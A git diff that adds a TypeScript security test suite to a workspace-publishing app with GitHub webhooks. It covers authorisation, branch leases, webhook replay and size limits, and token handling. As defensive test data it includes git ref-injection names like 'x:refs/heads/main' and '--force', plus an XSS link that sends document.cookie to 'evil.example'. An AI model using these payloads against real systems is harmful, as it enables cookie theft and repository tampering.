@@ -375,6 +375,162 @@ describe.each([
   });
 });
 
+describe('attacks', () => {
+  const wsRoute = () => import('@/app/api/projects/[id]/workspaces/[wid]/route');
+  const newWorkspace = async (name: string, id = 'shop') => {
+    const ws = await createWorkspace(req('POST', `/api/projects/${id}/workspaces`, 'ed', { name }), params({ id })).then(answer);
+    expect(ws.status).toBe(201);
+    const row = (await h.runtime.workspaces.store.get(ws.body.data.id))!;
+    commit(h.runtime.workspaces.checkoutPath(row), { [`src/${name}.txt`]: `${name}\n` }, `Work on ${name}`);
+    return row;
+  };
+  /** A delivery as GitHub signs it, of a body the test chose. */
+  const signed = (event: string, payload: unknown, secret = SECRET) => {
+    const body = JSON.stringify(payload);
+    return { headers: { 'content-type': 'application/json', 'x-github-event': event, 'x-github-delivery': crypto.randomUUID(), 'x-hub-signature-256': `sha256=${crypto.createHmac('sha256', secret).update(body).digest('hex')}` }, body };
+  };
+
+  it('publish: no account 401, a workspace of another project or none 404, a discarded one 409; nothing pushed', async () => {
+    const anon = await publishRoute(new Request('http://localhost/api/projects/shop/workspaces/x/publish', { method: 'POST' }), params({ id: 'shop', wid: 'x' })).then(answer);
+    expect(anon.status).toBe(401);
+    const lab = await newWorkspace('elsewhere', 'lab');
+    expect((await publish('ed', lab.id, 'shop')).status).toBe(404);
+    expect((await publish('ed', 'no-such-workspace', 'shop')).status).toBe(404);
+    expect((await publish('zed', lab.id, 'lab')).status).toBe(404);
+    expect((await publish('vic', lab.id, 'lab')).status).toBe(403);
+    const gone = await newWorkspace('gone');
+    const { DELETE } = await wsRoute();
+    expect((await DELETE(req('DELETE', `/api/projects/shop/workspaces/${gone.id}`, 'ed'), params({ id: 'shop', wid: gone.id })).then(answer)).status).toBe(200);
+    expect((await publish('ed', gone.id)).status).toBe(409);
+    const branches = (repo: string) => sh(server.repoPath(repo), ['for-each-ref', '--format=%(refname)', 'refs/heads/']).trim().split('\n');
+    expect(branches('team/shop')).not.toContain('refs/heads/bmad/gone');
+    expect(branches('team/lab')).not.toContain('refs/heads/bmad/elsewhere');
+  });
+
+  it('publish pushes only bmad/<name>: names that would push another ref are refused before git runs; main untouched', async () => {
+    const main = sh(server.repoPath('team/shop'), ['rev-parse', 'main']).trim();
+    for (const name of ['x:refs/heads/main', '-x', '--force', 'a b', '../main', 'x..y']) {
+      const ws = await createWorkspace(req('POST', '/api/projects/shop/workspaces', 'ed', { name }), params({ id: 'shop' })).then(answer);
+      expect([name, ws.status]).toEqual([name, 400]);
+    }
+    const ref = { id: 'shop', root: path.join(projectsRoot, 'shop') };
+    for (const branch of ['bmad/x:refs/heads/main', '+bmad/x', 'main', 'refs/heads/main', 'bmad/../main', '--force', 'bmad/x lock', 'bmad/-x:main', 'bmad/sprint-status', 'bmad/x.lock']) {
+      await expect(h.runtime.remotes.pushWorkspaceBranch(ref, branch, null)).rejects.toMatchObject({ code: 'E_VALIDATION' });
+    }
+    expect(sh(server.repoPath('team/shop'), ['rev-parse', 'main']).trim()).toBe(main);
+  });
+
+  it('publish again after a teammate moved the branch on the remote: refused (lease), the teammate’s commit kept', async () => {
+    const row = await newWorkspace('leased');
+    expect((await publish('ed', row.id)).status).toBe(200);
+    const theirs = server.pushAsTeammate('team/shop', { 'src/theirs.txt': 'theirs\n' }, { branch: 'bmad/leased', message: 'A teammate’s fix' });
+    commit(h.runtime.workspaces.checkoutPath(row), { 'src/leased.txt': 'mine, later\n' }, 'More of mine');
+    const again = await publish('ed', row.id);
+    expect([again.status, again.body.code]).toEqual([409, 'E_REMOTE_REJECTED']);
+    expect(sh(server.repoPath('team/shop'), ['rev-parse', 'bmad/leased']).trim()).toBe(theirs);
+  });
+
+  it('webhook: a signed delivery about another repository’s #n, or another branch, changes nothing; the right one does', async () => {
+    const row = await newWorkspace('hooked');
+    const p = await publish('ed', row.id);
+    const n = p.body.data.pullRequest.number as number;
+    github.close(n);
+    const other = await deliver('shop', github.pullRequestHook(n, SECRET, { repository: 'team/other-app' }));
+    const branch = await deliver('shop', github.pullRequestHook(n, SECRET, { head: 'bmad/someone-else' }));
+    const { repository: _r, ...unnamed } = JSON.parse(github.pullRequestHook(n, SECRET).body);
+    const nameless = await deliver('shop', signed('pull_request', unnamed));
+    for (const a of [other, branch, nameless]) expect([a.status, a.body.data.changed]).toEqual([200, false]);
+    expect((await h.runtime.forges.store.get(row.id))!.state).toBe('open');
+    expect((await workspace('vic', row.id)).body.data.status).toBe('open');
+    const ours = await deliver('shop', github.pullRequestHook(n, SECRET));
+    expect(ours.body.data.changed).toBe(true);
+    expect((await workspace('vic', row.id)).body.data.status).toBe('closed');
+  });
+
+  it('webhook: an old delivery sent again under a new id does not undo what the forge says now', async () => {
+    const row = await newWorkspace('replayed');
+    const n = (await publish('ed', row.id)).body.data.pullRequest.number as number;
+    github.close(n);
+    const closed = github.pullRequestHook(n, SECRET);
+    expect((await deliver('shop', closed)).body.data.changed).toBe(true);
+    expect((await workspace('vic', row.id)).body.data.status).toBe('closed');
+    // Reopened upstream, and told so.
+    Object.assign(github.pulls.find((x) => x.number === n)!, { state: 'open', updatedAt: new Date().toISOString() });
+    expect((await deliver('shop', github.pullRequestHook(n, SECRET))).body.data.changed).toBe(true);
+    expect((await workspace('vic', row.id)).body.data.status).toBe('open');
+    // The "closed" delivery again: GitHub's signature covers the body, not the delivery id.
+    const replay = await deliver('shop', { headers: { ...closed.headers, 'x-github-delivery': crypto.randomUUID() }, body: closed.body });
+    expect([replay.status, replay.body.data.duplicate, replay.body.data.changed]).toEqual([200, false, false]);
+    expect((await workspace('vic', row.id)).body.data.status).toBe('open');
+    expect((await h.runtime.forges.store.get(row.id))!.state).toBe('open');
+  });
+
+  it('webhook: a javascript: link from a signed delivery or a stored row never reaches the board', async () => {
+    const row = await newWorkspace('linked');
+    const n = (await publish('ed', row.id)).body.data.pullRequest.number as number;
+    const hook = JSON.parse(github.pullRequestHook(n, SECRET).body);
+    hook.pull_request.html_url = 'javascript:fetch("//evil.example/"+document.cookie)';
+    expect((await deliver('shop', signed('pull_request', hook))).status).toBe(200);
+    const card = async () => (await board('vic')).body.data.epics.flatMap((e: { stories: { workspace?: { id: string }; pullRequest?: { url: string } }[] }) => e.stories);
+    expect((await h.runtime.forges.store.get(row.id))!.url).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/team\/shop\/pull\//);
+    await h.runtime.forges.store.update(row.id, { url: 'javascript:alert(1)', checks: { state: 'success', checks: [{ name: 'ci', state: 'success', url: 'data:text/html,<script>alert(1)</script>' }] } });
+    const views = [...(await (await import('@/lib/services/forges')).pullRequestsOf('shop')).values()];
+    expect(views.length).toBeGreaterThan(0);
+    expect(views.filter((v) => !/^(https?:\/\/|$)/.test(v.url) || v.checks?.checks.some((c) => c.url && !/^https?:\/\//.test(c.url)))).toEqual([]);
+    expect(JSON.stringify(await card())).not.toMatch(/javascript:|data:text/);
+  });
+
+  it('webhook: no secret set is 401; a body over the bound is 413 before any check; a form-encoded one is 400; none changes anything', async () => {
+    const row = await newWorkspace('bounded');
+    const n = (await publish('ed', row.id)).body.data.pullRequest.number as number;
+    github.merge(n);
+    const hook = github.pullRequestHook(n, SECRET);
+    expect((await putRemote(req('PUT', '/api/projects/shop/remote', 'admin', { webhookSecret: null }), params({ id: 'shop' })).then(answer)).status).toBe(200);
+    const unsecured = await deliver('shop', hook);
+    // Signed with an empty key: what a server comparing against "no secret" would take.
+    const empty = await deliver('shop', signed('pull_request', JSON.parse(hook.body), ''));
+    expect((await putRemote(req('PUT', '/api/projects/shop/remote', 'admin', { webhookSecret: SECRET }), params({ id: 'shop' })).then(answer)).status).toBe(200);
+    expect([unsecured.status, empty.status]).toEqual([401, 401]);
+    const huge = JSON.stringify({ ...JSON.parse(hook.body), pad: 'x'.repeat(6 * 1024 * 1024) });
+    const tooLarge = await deliver('shop', { headers: { ...hook.headers, 'x-hub-signature-256': `sha256=${crypto.createHmac('sha256', SECRET).update(huge).digest('hex')}` }, body: huge });
+    expect(tooLarge.status).toBe(413);
+    // A project that takes no deliveries does not read the body at all.
+    expect((await deliver('nope', { headers: hook.headers, body: huge })).status).toBe(404);
+    const form = `payload=${encodeURIComponent(hook.body)}`;
+    const formed = await deliver('shop', { headers: { ...hook.headers, 'content-type': 'application/x-www-form-urlencoded', 'x-hub-signature-256': `sha256=${crypto.createHmac('sha256', SECRET).update(form).digest('hex')}` }, body: form });
+    expect(formed.status).toBe(400);
+    expect((await h.runtime.forges.store.get(row.id))!.state).toBe('open');
+    expect((await workspace('vic', row.id)).body.data.status).toBe('open');
+    // The same delivery, once the forge sends it as JSON, is acted on (its id was not used up).
+    expect((await deliver('shop', hook)).body.data.changed).toBe(true);
+  });
+
+  it('a token kept across a change of host must be given again: an owner cannot send the admin’s token elsewhere', async () => {
+    const before = (await h.runtime.remotes.get('tea'))!;
+    const moved = await putRemote(req('PUT', '/api/projects/tea/remote', 'admin', { apiUrl: github.apiUrl }), params({ id: 'tea' })).then(answer);
+    expect([moved.status, moved.body.code, moved.body.field]).toEqual([400, 'E_VALIDATION', 'token']);
+    const movedUrl = await putRemote(req('PUT', '/api/projects/tea/remote', 'admin', { url: `http://${github.hostPort}/team/tea.git` }), params({ id: 'tea' })).then(answer);
+    expect(movedUrl.status).toBe(400);
+    expect((await h.runtime.remotes.get('tea'))!).toMatchObject({ url: before.url, apiUrl: before.apiUrl, token: before.token });
+    // Given again, or removed, the change is taken.
+    expect((await putRemote(req('PUT', '/api/projects/tea/remote', 'admin', { apiUrl: github.apiUrl, token: null }), params({ id: 'tea' })).then(answer)).body.data).toMatchObject({ apiUrl: github.apiUrl, tokenSet: false });
+    expect((await putRemote(req('PUT', '/api/projects/tea/remote', 'admin', { apiUrl: gitea.apiUrl, token: TOKEN }), params({ id: 'tea' })).then(answer)).body.data).toMatchObject({ apiUrl: gitea.apiUrl, tokenSet: true });
+    // The same hosts: kept without being given again.
+    expect((await putRemote(req('PUT', '/api/projects/tea/remote', 'admin', { mode: 'pull-request', apiUrl: `${gitea.apiUrl}/` }), params({ id: 'tea' })).then(answer)).status).toBe(200);
+  });
+
+  it('no server folder in a pull request: its title and body', async () => {
+    const root = path.join(projectsRoot, 'shop');
+    const row = await newWorkspace('pathy');
+    commit(h.runtime.workspaces.checkoutPath(row), { 'src/pathy2.txt': 'x\n' }, `Read ${root}/.env for the config`);
+    const n = (await publish('ed', row.id)).body.data.pullRequest.number as number;
+    const pr = github.pulls.find((x) => x.number === n)!;
+    expect(pr.body).toContain('Read ./.env for the config');
+    expect(`${pr.title}\n${pr.body}`).not.toContain(projectsRoot);
+    expect(github.problems).toEqual([]);
+  });
+});
+
 describe('the token', () => {
   it('is found nowhere: answers, log lines, the repositories’ config, the server’s folders, process arguments; the forges got it only in Authorization', async () => {
     for (const dir of [projectsRoot, h.config.workspacesRoot, h.config.dataDir, h.config.outputPath]) {
